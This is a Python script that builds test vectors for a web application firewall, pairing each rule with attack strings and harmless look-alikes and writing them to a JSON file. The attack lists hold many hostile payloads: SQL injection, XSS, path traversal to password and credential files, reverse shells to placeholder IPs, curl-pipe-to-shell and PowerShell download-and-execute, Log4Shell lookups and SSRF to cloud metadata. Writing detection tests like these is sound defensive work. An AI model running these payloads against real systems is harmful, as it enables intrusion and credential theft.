import json, urllib.parse
d = json.load(open('../../default.json'))
ids = [r['id'] for r in d['rules']]
# A vector is a string (sent as the query parameter "q") or a request object.
def ua(s): return {"method": "GET", "uri": "/", "headers": [["User-Agent", s]]}
def uri(u, method="GET"): return {"method": method, "uri": u}
def hdr(name, val): return {"method": "GET", "uri": "/", "headers": [[name, val]]}
def body(ct, b, method="POST"): return {"method": method, "uri": "/api", "headers": [["Content-Type", ct]], "body": b}
def gq(q): return {"method": "POST", "uri": "/graphql", "headers": [["Content-Type", "application/json"]], "body": json.dumps({"query": q})}
def upload(name):
    b = "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--XyZ--\r\n" % name
    return {"method": "POST", "uri": "/upload", "headers": [["Content-Type", "multipart/form-data; boundary=XyZ"]], "body": b}
V = {
 "rp-sqli-001": (["x' or 'a'='a", "1' and 1=1 -- ", "abc\" or \"1\"=\"1", "admin' || 1=1#"], ["O'Brien and friends", "Rock 'n' roll or jazz", "size 16\" or 18\""]),
 "rp-sqli-002": (["admin'--", "1') #", "name\"/*"], ["O'Brien", "tag '#2' today", "it's -- well"]),
 "rp-sqli-003": (["1 union select null,null", "-1 UNION/**/ALL/**/SELECT 1,2", "x' union distinct select user()"], ["union members get 10% off", "O'connors UNION selected a few friends"]),
 "rp-sqli-004": (["1; drop table users", "x'; insert into logs values(1)", "1;exec master..xp_cmdshell 'dir'", "1; grant all on *.* to 'x'@'%'", "x'; shutdown --", "1; waitfor delay '0:0:5'", "1;backup database master to disk='x'"], ["Great product; drop me a line", "1; exec will create the case", "Mrs. Amy Collins; Grant - Goyette", "Done; backup your files first", "Ready; shutdown the laptop tonight"]),
 "rp-sqli-005": (["1 and sleep(5)", "1'; waitfor delay '0:0:5'--", "1 or benchmark(1000000,md5(1))"], ["sleep mask", "benchmark results"]),
 "rp-sqli-006": (["1 and extractvalue(1,concat(0x7e,user()))", "' union select table_name from information_schema.tables", "1;exec xp_cmdshell 'dir'"], ["version 2 of the database", "information schema docs"]),
 "rp-sqli-010": (["1 and @@version>5", "select @@hostname"], ["email me @ home", "@@@ decoration"]),
 "rp-sqli-011": (["( binary ( select 'b')) --", "1') #", "x'))--"], ["(see note) - thanks", "SCRAPBOOK PAPER (300 DPI) --"]),
 "rp-sqli-012": (["1' * id - '0", "'<='", "aa'^(0)='0"], ["it's a 'quote'", "\"hello\" and \"bye\""]),
 "rp-sqli-007": (["1 or 1=1", "x and 'a'='a'--", "0 || 2>1"], ["1 + 1 = 2, and 2 * 3 = 6.", "either/or"]),
 "rp-sqli-008": (["1 and 1=1--", "1) or sleep(3)", "5 order by 3--", body("text/plain", "id=1 or 1=1--")], ["1950 or 1960", "00 and 3"]),
 "rp-sqli-009": (["(select 1 from dual)", "char(65,66)", "concat_ws(0x3a,user(),database())"], ["Select your size from the chart below", "concat the strings"]),
 "rp-sqli-020": (["1' or 'a'='a' -- ", "-1 union select username, password from users", "admin'; drop table accounts; --", "1 and (select count(*) from sysobjects)>0"], ["O'Brien's pub", "Select the plan that suits you", "it's 5 o'clock -- time to go"]),
 "rp-xss-020": (["<svg/onload=alert(1)>", "\" autofocus onfocus=\"alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "';alert(document.domain)//"], ["<p>Hello <b>there</b></p>", "a < b and c > d", "I <3 you"]),
 "rp-xss-001": (["<script>alert(1)</script>", "<svg/onload=x>", "<iframe src=//evil>"], ["<p>Hello <b>world</b></p>", "I <3 scripts"]),
 "rp-xss-002": (["<img src=x onerror=alert(1)>", "<body onload=go()>", "<div style=\"x:expression(alert(1))\">"], ["<a href=\"https://example.com\">link</a>", "online = true"]),
 "rp-xss-003": (["\" onmouseover=\"alert(1)", "' onfocus='x()' autofocus", "onerror=alert(1)"], ["said \"online\" today", "one = two"]),
 "rp-xss-004": (["javascript:alert(1)", "<a href=\"vbscript:msgbox\">", "data:text/html;base64,PHNjcmlwdD4="], ["java script tutorial", "data: see attached"]),
 "rp-xss-005": (["alert(document.cookie)", "x=String.fromCharCode(88)", "window.location='//evil'", "'-window.name-'", "x=window.name;"], ["alert system for seniors", "document scanner", "https://knowledgeable-window.name/since_huzzah_before.csh", "mail me at jo@bay-window.name"]),
 "rp-xss-006": (["</title><x>", "<img src=\"javascript:x\">", "</textarea>"], ["<p>title</p>", "<img src=\"https://cdn.example.com/a.png\">"]),
 "rp-lfi-001": (["a/../../x.php", "../../etc/passwd", "..\\..\\windows\\win.ini", "/static/../etc/hosts"], ["2024-05-01..2024-05-31", "a..b.txt", "docs/readme.md"]),
 "rp-lfi-002": (["/etc/passwd", "file=/proc/self/environ", "/var/log/auth.log"], ["/etc/ is a directory name", "/usr/share/doc/readme"]),
 "rp-lfi-003": (["php://filter/convert.base64-encode/resource=index", "zip://upload.zip#shell", "expect://id"], ["https://example.com/php", "filter by date"]),
 "rp-lfi-004": (["http://203.0.113.9/shell.txt?", "https://evil.example/x.php?"], ["https://example.com/page", "http://example.com/help?topic=a"]),
 "rp-lfi-005": (["%2e.%%32%%66etc%%32%%66passwd", uri("/static/%2e.%25%35%25%63etc%25%35%25%63issue"), "..0x2fetc0x2fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc", uri("/f?name=..%c0%af..%c0%afboot.ini"), "%uff0e%uff0e/x"], ["100%", "a.b.c"]),
 "rp-lfi-006": ([".ssh/id_rsa", "/home/u/.aws/credentials", "/.bash_history"], ["ssh keys guide", "aws credentials how-to"]),
 "rp-lfi-007": (["c:\\windows\\system32\\drivers\\etc\\hosts", "WEB-INF/web.xml", "boot.ini"], ["windows 11 system requirements", "web info"]),
 "rp-rce-010": (["whoami", "uname -a", "cat /etc/passwd"], ["who am i", "uname"]),
 "rp-rce-011": (["`whoami`", "`cat /etc/passwd`", "`sleep 5`", "lorem ipsum `ping 127.0.0.1`", "x`ping attacker.example`"], ["`go test ./...`", "`python -m venv .venv`", "run `ping 8.8.8.8` to check the network"]),
 "rp-rce-012": (["cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "$(curl evil)"], ["${name}", "{a, b}"]),
 "rp-rce-013": (["/bin/sh -c id", "/usr/bin/wget http://x", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242"], ["/usr/bin is a directory", "binary files"]),
 "rp-rce-014": (["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "curl http://x/s.sh | sh"], ["nc state", "curl your hair"]),
 "rp-rce-015": ([ua("() { :; }; /bin/bash -c id"), "() { ignored; }; echo x"], ["() => {}", "f() { return 1 }"]),
 "rp-rce-016": (["cmd.exe /c dir", "powershell -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x')"], ["cmd + c copies", "powershell tutorial"]),
 "rp-rce-017": (["for /f %i in ('dir') do echo %i", "if not exist x.txt echo y", "FOR %G IN (a,b) DO echo %G"], ["for all of us", "if it exists"]),
 "rp-rce-018": (["net user hacker p /add", "%COMSPEC% /c dir", "reg add HKLM\\x"], ["net users count", "register here"]),
 "rp-rce-019": (["/???/c?t /???/p??s??", "/?in/ca? x"], ["what?/ok", "is it?"]),
 "rp-rce-020": (["java.lang.Runtime", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl"], ["java is a language", "processing the order"]),
 "rp-rce-021": (["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "H4sIAAAAAAAAAKtWSkksSVSyUlAqS8wpTgUAGxTzYxIAAAA"], ["SGVsbG8gd29ybGQ=", "eyJhbGciOiJIUzI1NiJ9"]),
 "rp-rce-022": (["%{#_memberAccess['allowStaticMethodAccess']=true}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "class.module.classLoader.resources"], ["member access", "the runtime was long"]),
 "rp-rce-030": (["<?php system('id'); ?>", "$_GET['c']", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"], ["<?xml version=\"1.0\"?>", "php is fun"]),
 "rp-rce-032": (["system('id')", "shell_exec($_GET['c'])", "file_get_contents('/etc/passwd')"], ["the system (2024)", "include a note"]),
 "rp-rce-033": (["$f('id');", "(system)('id')", "eval($_POST['x'])", "(/* c */system)(ls);", "(['system'])[0]('uname');", "(  [  system  ][  0  ])  {0}  (  ls  );"], ["my document (2).pdf", "ceiling height(9ft)"]),
 "rp-rce-031": (["require('child_process').exec('id')", "this.constructor.constructor('return process')()", "{\"__proto__\":{\"x\":1}}"], ["constructors build things", "require a login"]),
 "rp-rce-040": (["ifconfig", "time ifconfig", "ansible all -m ping", "nohup sh -c whoami", "uname -a", body("text/plain", "code=ansible-playbook site.yml\n"), body("text/plain", "code=time; chef-client -t 1.1.1.1"), "visudo"], ["ping me when you're free", "curl bar for shower", "bash the trash podcast", "`python -m venv .venv` creates it"]),
 "rp-rce-041": ([ua("ansible all -m ping"), ua("nohup ifconfig"), ua(";whoami"), ua("'cscli' alerts list"), ua("perf --version"), hdr("Referer", "set -o history")], [ua("Ruby"), ua("curl/8.10.1"), ua("python-requests/2.32.3"), ua("Wget/1.21.4"), hdr("Referer", "https://example.com/settings?o=1")]),
 "rp-rce-042": (["c$@at /et$@c/pas$@swd", "uname$u -a", "ping`` 127.0.0.1", "x;cat<<<ifconfig", "{,ifconfig}", "cat /etc/pa[s]swd", ":(){ :|:& };:"], ["He-B[kpueYH6v&X$Rk", "price: US$5 each", "{a, b}", "/users/[id]/edit", "```json\n{\"a\": 1}\n```\n\nHandmade Metal Bike"]),
 "rp-rce-043": (["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "CMD=$'sleep 5';$CMD", "alias a=b", ";iwr http://x/a.ps1", "bash -c 'id'"], ["a=1&b=2", "alias names are fine", "the bash party"]),
 "rp-rce-044": (["IF \"%1\"==\"\" goto ERROR", "if not (2 equ 2) echo hey", "if [AA] == [AA] echo same"], ["if a == b: return", "if (x == 1) { y() }", "if it rains"]),
 "rp-rce-045": (["array_map('system', $a)", "file_ExistS (\n)", "posix_getegid()"], ["the system (2024)", "str.replace(a, b)", "my_func(x)"]),
 "rp-rce-050": (["base64_decode()", "system(whoami)", "exec/*c*/()", "phpinfo();"], ["the system (2024)", "info (see below)", "symlinks (2)"]),
 "rp-rce-046": (["$__[o](4)", "(string)\"system\"('uname');", "<? echo 1", "'sys'.'tem'", "[php]echo 1"], ["this is a \"dog\" (not a cat)", "$(document).ready(f)", "costs $5 (approx)"]),
 "rp-rce-047": ([upload("shell.php"), upload("photo. php"), hdr("X-Filename", "a.jsp.."), hdr("X-File-Name", "/tmp/sess_d8ew88tqmabdcokhumchy8htqm")], [upload("report.pdf"), hdr("X-Filename", "photo.jpg")]),
 "rp-rce-048": (["while(!false)", "while(-Infinity);", "module.exports=x", "a[constructor][prototype]=1", "c\\u006fnsole; process[mainModule"], ["while (running) { step() }", "module exports", "the constructor prototype"]),
 "rp-rce-049": (["java.evil.runtime", "java.lang.ProcessBuilder"], ["java.util.List", "java runtime environment"]),
 "rp-sqli-013": (["1 and extractvalue (1,2)", "benchmark(1000,md5(1))", "char(65)", "x'||chr/**/(65)"], ["Haßelt (1599)", "an altitude of convert (0.46 miles)", "str.substring(1)", "my_char(x)"]),
 "rp-sqli-014": (["OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'", "password::int", ") AS orders FROM", ";SET @OLD_SQL_NOTES=1", "1 in (1,2,3,4,5,6,7,8,9)"], ["std::string name", "as seen from above", "set @home", "in (1, 2)"]),
 "rp-proto-014": ([body("my-new-content-type", "x"), body("application", "x"), body("multipart/;", "x")], [body("application/json", "{}"), body("ext/vcard;version=4.0", "x"), body("application/*+json", "{}")]),
 "rp-proto-015": ([body("application/x-www-form-urlencoded;boundary=\"application/json\"", "a=b")], [body("multipart/form-data; boundary=XyZ", "--XyZ--\r\n"), body("application/json; charset=utf-8", "{}")]),
 "rp-proto-016": ([hdr("Range", "bytes=1-10,11-20,21-30,31-40,41-50,51-60"), hdr("Range", "bytes=-10,-, 21-30")], [hdr("Range", "bytes=0-"), hdr("Range", "bytes=0-1023, 2048-4095"), hdr("Range", "0-1")]),
 "rp-proto-017": (["GET http://www.foo.bar HTTP/1.1", "x\r\nContent-Length: 0", "test\rnext=more"], ["get the docs at /api http://x", "line one\r\nline two", "Union members get 10% off.\nlocation of stores near me"]),
 "rp-proto-018": ([uri("/foo%0abar"), uri("/?test=a%12b")], [uri("/foo?x=a%0Ab"), uri("/caf%C3%A9")]),
 "rp-proto-019": ([hdr("Proxy", "http://evil:8080"), hdr("Lock-Token", "<opaquelocktoken:x>")], [hdr("Proxy-Connection", "keep-alive"), hdr("If-None-Match", "\"abc\"")]),
 "rp-ssrf-001": (["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/", "http://metadata/computeMetadata/v1/", "http://instance-data/latest/"], ["https://example.com/169", "http://api.example.com/metadata-service", "https://idp.example.com/metadata"]),
 "rp-ssrf-002": (["http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://10.0.0.5/internal", "http://2130706433/", "http:127.0.0.1", "http:2852039166"], ["https://example.com/", "http://203.0.113.5/", "http:example.com"]),
 "rp-ssrf-003": (["gopher://127.0.0.1:6379/_x", "file:///etc/passwd", "dict://localhost:11211/stat"], ["https://example.com/file", "ftp is old"]),
 "rp-nosqli-001": (uri("/login?user[$ne]=x&pass[$ne]=x"), body("application/json", "{\"user\": {\"$gt\": \"\"}}"), ["plain", body("application/json", json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/p.json", "$comment": "v2", "properties": {"d": {"$ref": "#/$defs/d"}}}))]),
 "rp-ldap-001": (["*)(uid=*))(|(uid=*", ")(cn=*", "admin)(|(objectclass=*)", "x*)(&(userpassword=*)"], ["(555) 010-9999", "see (a) and (b)", "smile :) (cn is my initials)", "a*) footnote (see page 2)"]),
 "rp-ssi-001": (["<!--#exec cmd=\"id\"-->", "<!-- #include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DOCUMENT_ROOT\"-->"], ["<!-- comment -->", "#include <stdio.h>", "<!-- TODO: exec the job later -->"]),
 "rp-mail-001": (["x\r\nRCPT TO:<victim@example.com>", "a\r\nA1 LOGOUT", "hi\r\nMAIL FROM:<a@b.example>\r\nDATA\r\n", "t\r\na001 STATUS INBOX (MESSAGES)", "m\r\nRETR 1\r\n", "y\nd store 2 +FLAGS (\\Deleted)"], ["Dear team,\r\nplease list the items\r\nThanks", "line one\nData shows growth\nbye", "Hi\r\nI login every day\r\nregards", "Top 10 tips\nfor travel", "notes:\nquit smoking in 2021", "Pamela Spencer\n\n6384461\n\nsearch", "Order 225WS7K1\n\nUNSUBSCRIBE"]),
 "rp-unc-001": (["\\\\attacker.example\\share\\x.dll", "file://///evil.example/share", "\\\\127.0.0.1@SSL@443\\DavWWWRoot\\a", "\\\\?\\UNC\\host\\c$", "file://fileserver/public/a.txt"], ["C:\\Users\\me\\file.txt", "regex \\\\d+ matches digits", "file:///home/me/notes.txt", "a\\\\b"]),
 "rp-xxe-001": ([body("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x>&x;</x>"), body("text/xml", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/d.dtd\"> %p;]><r/>"), "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>"], ["<!DOCTYPE html><html></html>", "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>", "the entity system of the game"]),
 "rp-xss-007": (["top?.[\"al\"+\"ert\"](1)", "window['ev'+'al']('x')", "self?.alert?.(1)", "[].sort.call`${alert}1`", "(document)[\"cookie\"]", "document /*x*/ . cookie", "(![]+[])[+!+[]]", "top['alert'](1)"], ["JavaScript: the good parts", "window['dataLayer'] = window['dataLayer'] || []", "![](image.png) look at this", "user?.name ?? 'guest'", "cookies and cream", "document.getElementById('x')", "the window shop top ten", "Check the input first. Call `strings.TrimSpace(s)` on it."]),
 "rp-graphql-001": ([gq("{ __schema { types { name } } }"), gq("query { __type(name: \"User\") { fields { name } } }")], [gq("{ user(id: 1) { __typename name } }"), gq("{ schema { version } }")]),
 "rp-graphql-002": ([gq("{ a { b { c { d { e { f { g { h { i { j { k { l } } } } } } } } } } } }")], [gq("{ a { b { c { d } } } }"), gq("{ a { b } c { d } e { f } g { h } i { j } k { l } m { n } o { p } q { r } s { t } }")]),
 "rp-graphql-003": ([gq("{ " + " ".join("a%d: user(id: %d) { id }" % (i, i) for i in range(20)) + " }")], [gq("{ me: user(id: 1) { id } them: user(id: 2) { id } }"), gq("query Q($id: ID!, $n: Int) { user(id: $id) { posts(first: $n) { title } } }")]),
 "rp-graphql-004": ([gq(" ".join("query q%d { me { id } }" % i for i in range(6)))], [gq("query A { me { id } } query B { you { id } }"), gq("mutation { addPost(title: \"query mutation query\") { id } }")]),
 "rp-ssrf-004": (["localhost/", "localtest.me/admin", "kubernetes.default.svc.cluster.local/", "host.docker.internal:2375/"], ["local host", "localhost is where I test", "example.com/internal", "internal"]),
 "rp-rce-024": (["java.lang.Number", body("text/plain", "test=java.lang.Class"), hdr("X-Type", "java.util.HashMap")], ["the java.lang.Number class docs", "java", "javascript.info"]),
 "rp-ssrf-008": ([uri("/gopher://127.0.0.1:6379/_FLUSHALL"), uri("/dict%3A%2F%2F127.0.0.1%3A11211%2Fstats"), uri("//file:///etc/passwd")], [uri("/docs/gopher-protocol"), uri("/https://example.com/page"), uri("/redis/stats")]),
 "rp-nosqli-003": ([hdr("X-Filter", "{\"$gt\": \"\"}"), uri("/users/%7B%22%24ne%22%3A1%7D"), hdr("X-Query", "name[$regex]=.*")], [hdr("X-Price", "$5 each"), uri("/api/v1/items/42"), hdr("Content-Type", "application/soap+xml; action=\"urn:x\"; charset=UTF-8")]),
 "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)", "', $where: '1 == 1'", "x', $or: [ {}, { 'a':'a", "';it=new Date();do{pt=new Date();}while(pt-it<5000);"], ["price $10", "where is my order", "costs $5: cheap", "john+order@x.com", "it's done; start the build"]),
 "rp-ssti-001": (["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"], ["{{ name }}", "costs ${price}"]),
 "rp-jndi-001": (["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}"], ["${HOME}", "jndi docs"]),
 "rp-scanner-001": ([ua("sqlmap/1.7.2#stable (https://sqlmap.org)"), ua("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ua("Nuclei - Open-source project")], [ua("Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"), ua("urlgrabber/3.10 yum/3.4.3")]),
 "rp-scanner-002": (["http://abc.oastify.com", "x.burpcollaborator.net"], ["https://example.com", "burp suite docs"]),
 "rp-probe-001": ([uri("/.git/config"), uri("/.env"), uri("/app/.DS_Store")], [uri("/.well-known/security.txt"), uri("/api/v1/users")]),
 "rp-probe-002": ([uri("/index.php.bak"), uri("/config.php~"), uri("/db.sql.old")], [uri("/index.php"), uri("/old/page")]),
 "rp-rce-051": (["; dir", "a && dir c:\\", "x | systeminfo", "1 & tasklist /v", "| sysinfo", "127.0.0.1 | net user"], ["Cast; Dir. Spielberg", "dir is short for directory", "the && operator; dirty", "my hostname is foo", "see /dir/file"]),
 "rp-lfi-008": (["%c0%ae%c0%ae/etc/passwd", uri("/x?f=%c0%ee%c0%ee%c1%1cetc"), uri("/x?f=..%uefc8..%uefc8boot.ini"), "%f0%80%80%ae%f0%80%80%ae/x", uri("/a/%fc%80%80%80%80%ae%fc%80%80%80%80%ae/etc")], ["%C1LVARO", uri("/search?q=%C1lvaro"), "100% cotton", "caf%c3%a9"]),
 "rp-xss-008": (["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%2BADw-img src=x onerror=alert(1)+AD4-", "+ADw-svg onload=x"], ["C+ and D+ grades", "+ADD-ON packs", "a+b=c"]),
 "rp-xss-009": (["<s c r i p t>alert(1)", "<f o r m action=x>", "<d i a l o g open>", "$<i m g src=x"], ["s c r i p t", "< a b c >", "a < f o r m"]),
 "rp-ssrf-005": (["unix:/run/app.sock|http://backend/", "unix:/var/run/docker.sock|http://localhost/containers/json", uri("/proxy?u=unix:/x.sock%7Chttp://a/")], ["unix: a history", "unix:timestamp|1700000000", "pipe | unix:"]),
 "rp-probe-004": ([uri("/backup/db.sql"), uri("/dump.rdb"), uri("/data/app.sqlite3"), uri("/files/users.sql.gz")], [uri("/docs/sql-guide"), uri("/api/db/status"), uri("/static/app.js"), uri("/q?file=x.sql")]),
 "rp-ssrf-006": (["http://0251.00376.000251.0000376/latest/meta-data/", "http://0x7f000001:6379/", "http://google.com:80 &@127.88.23.245:22/", "//[::ffff:7f00:1]/", "http://intranet/admin", "http://db.internal/admin", "gopher://127.1:11211/_stats"], ["https://example.com/callback", "http://203.0.113.9/img.png", "127.0.0.1", "see http://localhost in the docs", "C:\\windows\\temp", "http://wiki/Onboarding has the checklist"]),
 "rp-rce-052": ([uri("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"), "auto_prepend_file=/tmp/x.php", "-d allow_url_include=1", "opcache.file_cache=/tmp"], ["the include path is long", "error log viewer", "allow url include?"]),
 "rp-rce-053": (["sleep 5", "'sleep 10'", "which curl", "`ping 127.0.0.1`", "timeout 5 id"], ["sleep well", "sleep 8 hours a night", "which one?", "run `ping 127.0.0.1` to test", "which curl iron is best"]),
 "rp-proto-020": ([upload("a;b.txt"), upload("te\\\"st.php"), upload("1.j\\\\s\\\\p")], [upload("report.pdf"), upload("O'Brien resume.pdf"), upload("photo (1).jpg")]),
 "rp-proto-022": ([uri("/get?param=foo%uFF01"), uri("/?p=%c0%af"), uri("/x/%uff0e%uff0e/")], [uri("/?q=%C3%A9t%C3%A9"), uri("/?p=%25uff01")]),
 "rp-rce-054": (["1;.shell whoami", ";\n.databases", "\\nid;", "a;\\n/bin/ls -al\\n", "cat /et*/*wd", "ls /v?r/l*g/", "d=/dev&&(sh)0>$d/tcp/203.0.113.9/777"], ["see section 1.2", "the *.txt files", "cat pictures/2024", "src/**/*.js", "(shell) scripts", "Line two\\nid card needed"]),
 "rp-lfi-009": ([upload("../1.7z"), upload("..\\\\..\\\\boot.ini"), upload("a/../../x.php")], [upload("report..final.pdf"), upload("a.b.c.txt"), upload("...txt")]),
 "rp-ssrf-007": ([hdr("X-Callback", "http://169.254.169.254/latest/meta-data/"), hdr("Referer", "http://[::ffff:a9fe:a9fe]/admin"), hdr("X-Custom-Data", "http://172.17.0.1:11211/")], [hdr("Referer", "http://intranet/portal"), hdr("Referer", "https://example.com/page"), hdr("X-Forwarded-Proto", "https")]),
 "rp-probe-003": ([uri("/server-status"), uri("/wp-config.php"), uri("/actuator/env")], [uri("/status"), uri("/wp-content/uploads/a.png")]),
 "rp-proto-001": (["x\r\nSet-Cookie: a=b", "foo%0d%0aLocation: http://evil", "a\nhttp/1.1 200 OK"], ["line one", "100%"]),
 "rp-proto-002": ([hdr("X-Test", "a%0d%0aSet-Cookie: x=1"), hdr("X-Test", "a\r\nb")], [hdr("X-Test", "plain value"), hdr("Accept", "text/html")]),
 "rp-proto-003": (["file.php\x00.jpg", uri("/download?f=a%00.png")], ["file.php.jpg", "zero 0"]),
 "rp-proto-004": ([uri("/", "TRACE"), uri("/", "get"), uri("/", "JEFF"), uri("/", "TEST")], [uri("/", "GET"), uri("/", "DELETE"), uri("/", "PATCH"), uri("/", "OPTIONS")]),
 "rp-proto-005": ([{"method": "POST", "uri": "/", "headers": [["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], "body": "abcd"}], [{"method": "POST", "uri": "/", "headers": [["Content-Length", "4"]], "body": "abcd"}]),
 "rp-proto-006": ([hdr("Transfer-Encoding", "chunked, identity"), hdr("Transfer-Encoding", "xchunked")], [hdr("Transfer-Encoding", "chunked"), hdr("Accept", "x")]),
 "rp-proto-007": (["<meta http-equiv=\"Set-Cookie\" content=\"a=b\">", "x;document.cookie=\"s=1\"", "JSESSIONID=abc123"], ["cookie recipe", "session notes"]),
 "rp-proto-009": ([uri("/login?jsessionid=74B0CB41"), uri("/app;jsessionid=abc?x=1"), uri("/auth?laravel_session=eyJpdiI6"), body("application/json", "{\"phpsession\": \"x\"}")], [uri("/login?session=1"), uri("/?sessionid_help=1")]),
 "rp-proto-010": (["printer)(uid=*)", "x)(|(objectclass=*)", "*)(&", "val)&(cn=admin", "*)!(sn=*"], ["(555) 010-9999", "see (a) and (b)", "(a=1)(&(b=2))"]),
 "rp-proto-011": ([uri("/api/r?_method=DELETE", "POST"), {"method": "POST", "uri": "/api", "headers": [["X-HTTP-Method-Override", "PUT"]]}], [uri("/api/r?_method=GET", "POST"), uri("/api?method=delete")]),
 "rp-proto-012": ([hdr("Request-Range", "bytes=0-1023")], [hdr("Range", "bytes=0-1023")]),
 "rp-proto-013": ([hdr("Accept", "text/html;q=0.9;charset=CP1026,*/*;q=0.8"), hdr("Content-Type", "text/plain; charset=utf-7"), hdr("Content-Type", "application/x-www-form-urlencoded;charset=ibm038")], [hdr("Content-Type", "application/json; charset=utf-8"), hdr("Content-Type", "text/html; charset=ISO-8859-1")]),
 "rp-proto-008": ([hdr("Content-Length", "4, 5"), hdr("Content-Length", "-1")], [hdr("Content-Length", "42")]),
}
ch = json.load(open("chunks.json"))
for rid, cmds in ch.items():
    V[rid] = (["; %s -x /tmp/a" % cmds[0], "a|%s -x /tmp/b" % cmds[-1], "x && %s --help /" % cmds[len(cmds)//2]], ["%s is a word" % cmds[0], "%s and %s" % (cmds[1], cmds[2])])
out = {}
for rid in ids:
    if rid in ("rp-block-ip", "rp-block-user"):
        continue
    a, b = V[rid][:-1] if False else (None, None)
    v = V[rid]
    if len(v) == 3:  # nosqli-001: two attacks, benign list
        a, b = [v[0], v[1]], v[2]
    else:
        a, b = v
    out[rid] = {"attack": a, "benign": b}
out["rp-block-ip"] = {"attack": [{"method": "GET", "uri": "/", "client_ip": "198.51.100.77"}], "benign": [{"method": "GET", "uri": "/", "client_ip": "198.51.100.78"}]}
out["rp-block-user"] = {"attack": [{"method": "GET", "uri": "/", "user_id": "mallory"}, {"method": "GET", "uri": "/", "user_login": "Mallory"}],
                        "benign": [{"method": "GET", "uri": "/", "user_id": "alice"}, {"method": "GET", "uri": "/", "user_login": "alice"}]}
missing = [r for r in V if r not in ids]
assert not missing, missing
json.dump(out, open('../vectors.json', 'w'), indent=1, ensure_ascii=False)
print(len(out), "rules with vectors")
